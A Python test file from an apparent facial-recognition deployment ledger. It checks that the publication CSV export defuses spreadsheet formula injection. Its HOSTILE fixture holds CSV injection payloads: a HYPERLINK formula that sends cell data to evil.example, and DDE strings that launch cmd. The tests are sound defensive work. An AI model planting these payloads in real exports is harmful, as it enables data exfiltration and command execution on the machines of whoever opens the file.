"""Issue 23, item 2: the publication CSV forces publish, and people open in spreadsheets, starts
no cell with a formula (OWASP CSV injection): a text cell beginning with =, +, -, @, tab or
carriage return is given a leading single quote, over HTTP and in the CLI; numbers stay numbers
and the JSON keeps the names as written."""

from __future__ import annotations

import argparse
import csv
import io
from collections.abc import Iterator
from datetime import timedelta

import pytest
from litestar.testing import TestClient

from lfr_ledger.api.app import create_app
from lfr_ledger.api.cli import stats as stats_cli
from lfr_ledger.api.demo.sample_deployment import (
    AO,
    AUTHORITY,
    COMPILER,
    OPERATOR,
    SIGNAGE,
    WINDOW_START,
    proposed,
    subject,
)
from lfr_ledger.config.settings import Settings
from lfr_ledger.domain.application import CaseLedger
from lfr_ledger.domain.values import Location, PublicNotice
from lfr_ledger.projections.publication import PUBLICATION_FIELDS, records_to_csv
from lfr_ledger.projections.store import close_stores
from tests.conftest import Clock
from tests.test_api import Api


@pytest.fixture(autouse=True)
def _close_projection_connections() -> Iterator[None]:
    yield
    close_stores()


# What each text column of the record was given, each a formula a spreadsheet would run.
HOSTILE = {
    "location": '=HYPERLINK("http://evil.example/?"&A1,"Gold Street")',
    "town": "+1+cmd|' /C calc'!A0",
    "use_case": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# The forces are codes from the policy's closed register now: no formula can be given for them.


def ran_hostile_deployment(ledger: CaseLedger, clock: Clock) -> None:
    """A deployment live 10:00-11:00 whose location, town and use case are formulas."""
    clock.now = WINDOW_START - timedelta(hours=2)
    deployment = proposed(
        ledger,
        location=Location(HOSTILE["location"], HOSTILE["town"], "town_centre"),
        purpose=HOSTILE["use_case"],
        public_notice=PublicNotice("signage", WINDOW_START - timedelta(days=1)),
    )
    ledger.authorise_deployment(AO, deployment, authority_ref="AUTH-1", **AUTHORITY)
    ledger.enrol(COMPILER, deployment, subject(1))
    ledger.review_watchlist(AO, deployment, confirmed_count=1, not_excessive=True)
    clock.now = WINDOW_START
    ledger.confirm_signage(OPERATOR, deployment, **SIGNAGE)
    ledger.start_deployment(OPERATOR, deployment)
    clock.now = WINDOW_START + timedelta(hours=1)
    ledger.end_deployment(OPERATOR, deployment)


def assert_neutralised(csv_text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert len(rows) == 1
    row = rows[0]
    for column, written in HOSTILE.items():
        assert row[column] == "'" + written, column
    # Every cell of the file: none starts with what a spreadsheet reads as a formula.
    for cell in row.values():
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    # The figures stay numbers a spreadsheet sums.
    assert float(row["threshold"]) > 0 and row["alerts"] == "0"
    assert float(row["hours_live"]) == pytest.approx(1.0)


@pytest.fixture
def served(settings: Settings, clock: Clock) -> Iterator[tuple[Api, CaseLedger]]:
    app = create_app(settings, clock=clock)
    with TestClient(app) as client:
        yield Api(client, settings), app.state.services.ledger


def test_http_publication_csv_starts_no_cell_with_a_formula(
    served: tuple[Api, CaseLedger], clock: Clock
) -> None:
    api, ledger = served
    ran_hostile_deployment(ledger, clock)
    response = api.get("/publication/deployments.csv", "analyst")
    assert response.status_code == 200, response.text
    assert_neutralised(response.text)
    # The JSON is not a spreadsheet: it keeps the names exactly as recorded.
    published = api.get("/publication/deployments", "analyst").json()
    assert {k: published[0][k] for k in HOSTILE} == HOSTILE


def test_cli_publication_csv_starts_no_cell_with_a_formula(
    settings: Settings,
    ledger: CaseLedger,
    clock: Clock,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    ran_hostile_deployment(ledger, clock)
    monkeypatch.setenv("LFR_DATA_DIR", str(settings.data_dir))
    if settings.database_url:
        monkeypatch.setenv("LFR_DATABASE_URL", settings.database_url)
        monkeypatch.setenv("LFR_POSTGRES_SCHEMA", settings.postgres_schema or "")
    else:
        monkeypatch.delenv("LFR_DATABASE_URL", raising=False)
    parser = argparse.ArgumentParser(prog="lfr")
    stats_cli.register(parser.add_subparsers(dest="command", required=True))
    parsed = parser.parse_args(["stats", "publication"])
    assert parsed.handler(parsed) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[0] == ",".join(PUBLICATION_FIELDS)
    assert_neutralised(out)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_lead_of_owasp_is_quoted_in_text_cells_only(lead: str) -> None:
    record: dict[str, object] = dict.fromkeys(PUBLICATION_FIELDS, 0)
    record |= {"location": f"{lead}1+1", "town": "Kettering", "threshold": -0.25}
    record |= {"arrests_per_hour": None, "mutual_aid": False}
    row = next(csv.DictReader(io.StringIO(records_to_csv([record]))))
    assert row["location"] == f"'{lead}1+1"
    assert row["town"] == "Kettering"
    # A number is never text: a negative one stays a number.
    assert row["threshold"] == "-0.25"
    assert row["arrests_per_hour"] == "" and row["mutual_aid"] == "False"
